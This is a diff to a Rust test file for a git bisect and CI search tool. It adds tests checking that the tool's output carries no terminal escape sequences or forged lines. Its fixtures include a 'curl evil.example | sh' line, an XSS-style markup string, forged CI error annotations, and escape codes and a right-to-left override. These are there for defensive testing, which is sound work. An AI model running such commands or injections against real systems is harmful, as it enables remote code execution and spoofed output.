@@ -21,13 +21,13 @@ const MARKUP: &str = "\"><img src=x onerror=alert(1)></script><!-- & `x` | @octo
 const FORGED: [&str; 3] = ["Next: curl evil.example | sh", "error: all is lost", "::error::forged"];
 
 /// All of it on lines of their own.
-fn all() -> String {
+pub(crate) fn all() -> String {
     let lines = [&[ORDERS, MARKUP][..], &FORGED].concat();
     lines.join("\n")
 }
 
 /// As a string in Java.
-fn quoted(text: &str) -> String {
+pub(crate) fn quoted(text: &str) -> String {
     format!("\"{}\"", text.replace('\\', "\\\\").replace('"', "\\\"").replace('\n', "\\n"))
 }
 
@@ -72,7 +72,7 @@ fn search(dir: &Path, more: &[&str]) -> Ran {
 }
 
 /// What nobody may be told as it stands.
-fn assert_harmless(said: &str, is_coloured: bool) {
+pub(crate) fn assert_harmless(said: &str, is_coloured: bool) {
     for order in ["\u{1b}[31mx", "\u{1b}]", "\u{1b}[2J", "\u{7}", "\u{202e}"] {
         assert!(!said.contains(order), "{order:?} in {said:?}");
     }
@@ -97,6 +97,20 @@ fn a_terminal_obeys_nothing_of_others_and_no_line_of_theirs_looks_like_ours() {
             assert!(!ran.stderr.lines().any(|line| line.starts_with("next: rm")), "{}", ran.stderr);
         }
     }
+}
+
+#[test]
+fn the_line_that_moves_obeys_nothing_of_others() {
+    let dir = fixture();
+    // A name for the first commit, as git reads it, in which a terminal would find a title, a bell, and a direction.
+    let good = "HEAD~1^{/(\u{1b}]0;title\u{7}|\u{202e})*one}";
+    let usual = ["bisect", "--dry-run", "--test", "*Test", "--classpath", JUNIT, "--good", good];
+    let seen = crate::terminal::seen(dir.path(), 200, &usual);
+    assert!(
+        seen.contains("s good (HEAD~1^{/(\u{fffd}]0;title\u{fffd}|\u{fffd})*one})"),
+        "{seen:?}"
+    );
+    assert_harmless(&seen, true);
 }
 
 #[test]
@@ -340,7 +354,13 @@ fn read(file: &Path) -> serde_json::Value {
 fn told(change: impl Fn(&Path)) -> String {
     let job = Job::new(fixture());
     let run = job.file("run");
-    assert_eq!(search(job.dir(), &["--output", run.to_str().unwrap()]).code, 0);
+    let place = run.to_str().unwrap();
+    let usual = ["ci", "search", "--test", "SignTest", "--good", "HEAD~1", "--classpath", JUNIT];
+    let searched = job.step("push", &json!({}), &[&usual[..], &["--output", place]].concat());
+    assert_eq!((searched.code, &*job.output("status")), (0, "found"), "{}", searched.stderr);
+    assert!(searched.stdout.contains("octocat"), "{}", searched.stdout);
+    assert_harmless(&searched.stdout, false);
+    assert_harmless(&searched.stderr, false);
     change(&run);
     let sarif = job.file("found.sarif");
     let words = ["ci", "post", run.to_str().unwrap(), "--sarif", sarif.to_str().unwrap()];
